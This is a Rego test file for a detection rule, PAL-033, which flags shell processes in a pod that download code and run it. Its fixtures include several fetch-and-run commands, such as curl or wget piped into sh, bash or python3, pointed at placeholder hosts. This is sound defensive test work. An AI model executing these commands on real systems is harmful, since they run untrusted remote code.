package palisade.rules.pal_033_test

import data.palisade.lib.attack_fixtures as f
import data.palisade.rules.pal_033

alerts_for(events) := got if {
	got := pal_033.alerts with input as {"events": events}
}

m(script) := sprintf("sh (pid 4242, uid 1000) runs a download as code: %s in pod shop/web-7d9f8c6b5-x2x4q", [script])

test_fetch_and_run_fires if {
	alerts_for([
		f.exec("/bin/sh", ["sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh"]),
		f.exec("/bin/sh", ["sh", "-c", "wget -qO- http://203.0.113.7/i | sudo -E bash -s"]),
		f.exec("/bin/sh", ["sh", "-c", "bash <(curl -s http://x/i)"]),
		f.exec("/bin/sh", ["sh", "-c", "eval \"$(curl -s http://x/i)\""]),
		f.exec("/bin/sh", ["sh", "-c", "cd /tmp; curl -s http://x/p.py | python3 -"]),
		f.exec("/bin/sh", ["sh", "-c", "curl http://x/i | /bin/bash"]),
	]) == {
		{"index": 0, "rule_id": "PAL-033", "message": m("-c curl -fsSL http://203.0.113.7/x.sh | sh")},
		{"index": 1, "rule_id": "PAL-033", "message": m("-c wget -qO- http://203.0.113.7/i | sudo -E bash -s")},
		{"index": 2, "rule_id": "PAL-033", "message": m("-c bash <(curl -s http://x/i)")},
		{"index": 3, "rule_id": "PAL-033", "message": m("-c eval \"$(curl -s http://x/i)\"")},
		{"index": 4, "rule_id": "PAL-033", "message": m("-c cd /tmp; curl -s http://x/p.py | python3 -")},
		{"index": 5, "rule_id": "PAL-033", "message": m("-c curl http://x/i | /bin/bash")},
	}
}

test_near_misses_do_not_fire if {
	count(alerts_for([
		f.exec("/bin/sh", ["sh", "-c", "curl -fsS -o /dev/null http://127.0.0.1:8080/"]),
		f.exec("/bin/sh", ["sh", "-c", "curl -s http://x/data.json | jq .items"]),
		f.exec("/bin/sh", ["sh", "-c", "curl -s http://x/a | shasum"]),
		f.exec("/bin/sh", ["sh", "-c", "wget -O /tmp/i.sh http://x/i.sh; echo done"]),
		f.exec("/bin/sh", ["sh", "-c", "echo hello | tr a-z A-Z"]),
		f.exec("/usr/bin/curl", ["curl", "http://x/i", "|", "sh"]),
		f.host(f.exec("/bin/sh", ["sh", "-c", "curl -s http://x/i | sh"])),
	])) == 0
}

# The rule tests for "curl" or "wget" before the regexes: every pattern must need one of them.
test_every_pattern_needs_curl_or_wget if {
	every pattern in pal_033.fetch_and_run {
		contains(pattern, "(curl|wget)")
	}
}
